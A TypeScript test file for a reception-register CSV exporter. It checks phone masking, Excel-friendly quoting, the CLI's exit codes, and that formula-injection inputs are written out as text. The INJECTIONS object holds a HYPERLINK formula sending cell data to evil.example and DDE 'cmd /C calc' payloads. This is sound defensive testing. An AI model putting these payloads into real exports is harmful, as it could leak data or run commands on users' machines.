// Rule R6: the reception register export masks visitors' phones unless office staff ask for
// them in full; the CSV opens in Excel (BOM) and keeps commas and line breaks in cells; no cell
// a visitor or deputy typed can become a live formula in Excel or WPS.
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDb, type TestDb } from '../helpers/db.ts';
import { ensureOrganisation } from '../../src/repositories/people-repo.ts';
import { exportRegister, maskPhone, REGISTER_HEADER } from '../../src/services/register/register-export.ts';
import { npmRunArgs } from '../helpers/main-process.ts';

const run = promisify(execFile);
let t: TestDb;
let orgId: number;

beforeAll(async () => {
  t = await createTestDb();
  orgId = (await ensureOrganisation(t.db, 'default', '示范县')).id;
  const unit = await t.db.unit.create({ data: { orgId, kind: 'station', name: '城关镇人大代表联络站' } });
  await t.db.receptionVisit.create({
    data: {
      orgId, unitId: unit.id, recordedById: 1, visitorName: '王大妈', visitorPhone: '13912345678', visitorAddress: '幸福村3组',
      issue: '路灯坏了，晚上出行不便\n已经一个多月', category: '城乡建设', deadline: '2026-12-07', sourceKey: 'k1',
      createdAt: new Date('2026-11-26T02:00:00Z'),
    },
  });
});
afterAll(() => t.close());

/** The fields of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') rows.push([...row, field]), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

const INJECTIONS = {
  visitorName: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
  visitorAddress: "=cmd|'/C calc'!A0",
  issue: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  category: '+1+1',
  assignedTo: '-2+3',
  answerText: '\t=1+1',
  answerForm: '\r=1+1',
};

describe('register export (rule R6)', () => {
  it('masks phones by default and shows them in full when asked', async () => {
    const range = { orgId, from: new Date('2026-11-01T00:00:00Z'), to: new Date('2026-12-01T00:00:00Z') };
    const masked = await exportRegister(t.db, range);
    expect(masked.startsWith('\uFEFF' + REGISTER_HEADER.join(','))).toBe(true);
    expect(masked).toContain('139****5678');
    expect(masked).not.toContain('13912345678');
    expect(masked).toContain('"路灯坏了，晚上出行不便\n已经一个多月"');
    expect(await exportRegister(t.db, { ...range, unmasked: true })).toContain('13912345678');
    expect(maskPhone('0571-8888')).toBe('057****8888');
  });

  it('npm run register -- export prints the CSV; a bad date is one line and exit 2', async () => {
    const env = { ...process.env, DATABASE_URL: t.url, ORG_CODE: 'default' };
    const { stdout } = await run(process.execPath, npmRunArgs('register', 'export', '--from', '2026-11-01', '--to', '2026-11-30'), { env });
    expect(stdout).toContain('2026-11-26,城关镇人大代表联络站,王大妈,139****5678');
    const bad = await run(process.execPath, npmRunArgs('register', 'export', '--from', '2026-02-30'), { env }).catch((e) => e);
    expect(bad.code).toBe(2);
    expect(bad.stderr.trim().split('\n')).toHaveLength(1);
  }, 60_000);

  it('a period that ends before it starts is refused in one line with exit 1, and prints no CSV', async () => {
    const env = { ...process.env, DATABASE_URL: t.url, ORG_CODE: 'default' };
    const refused = await run(process.execPath, npmRunArgs('register', 'export', '--from', '2026-11-30', '--to', '2026-11-01'), { env }).catch((e) => e);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toBe('');
    expect(refused.stderr.trim().split('\n')).toEqual(['--to: 2026-11-01 早于 --from 2026-11-30，没有导出；请把较早的日期写在 --from']);
  }, 60_000);

  it('--out FILE writes the CSV there and says how many visits it holds', async () => {
    const env = { ...process.env, DATABASE_URL: t.url, ORG_CODE: 'default' };
    const out = join(t.dir, 'register.csv');
    const { stdout } = await run(process.execPath, npmRunArgs('register', 'export', '--from', '2026-11-26', '--to', '2026-11-26', '--out', out), { env });
    expect(stdout).toBe(`已导出 1 条登记到 ${out}\n`);
    const csv = readFileSync(out, 'utf8');
    expect(csv.startsWith('\uFEFF' + REGISTER_HEADER.join(','))).toBe(true);
    expect(csv).toContain('2026-11-26,城关镇人大代表联络站,王大妈,139****5678');
  }, 60_000);

  it('every cell that Excel or WPS would run as a formula is written as text, through the real command', async () => {
    const unit = await t.db.unit.findFirstOrThrow({ where: { orgId } });
    await t.db.receptionVisit.create({
      data: { orgId, unitId: unit.id, recordedById: 1, deadline: '2026-12-08', sourceKey: 'k-injection', createdAt: new Date('2026-11-27T02:00:00Z'), ...INJECTIONS },
    });
    const env = { ...process.env, DATABASE_URL: t.url, ORG_CODE: 'default' };
    const { stdout } = await run(process.execPath, npmRunArgs('register', 'export', '--from', '2026-11-27', '--to', '2026-11-27'), { env });
    const [header, row, ...rest] = parseCsv(stdout.replace(/^\uFEFF/, ''));
    expect(rest).toEqual([]);
    expect(header).toEqual(REGISTER_HEADER);
    const cell = (name: string) => row![REGISTER_HEADER.indexOf(name)];
    // The apostrophe is what Excel and WPS read as "text"; the value itself is kept whole.
    expect(cell('来访人')).toBe(`'${INJECTIONS.visitorName}`);
    expect(cell('住址')).toBe(`'${INJECTIONS.visitorAddress}`);
    expect(cell('反映问题')).toBe(`'${INJECTIONS.issue}`);
    expect(cell('类别')).toBe(`'${INJECTIONS.category}`);
    expect(cell('交办单位')).toBe(`'${INJECTIONS.assignedTo}`);
    expect(cell('答复内容')).toBe(`'${INJECTIONS.answerText}`);
    expect(cell('答复形式')).toBe(`'${INJECTIONS.answerForm}`);
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  }, 60_000);
});
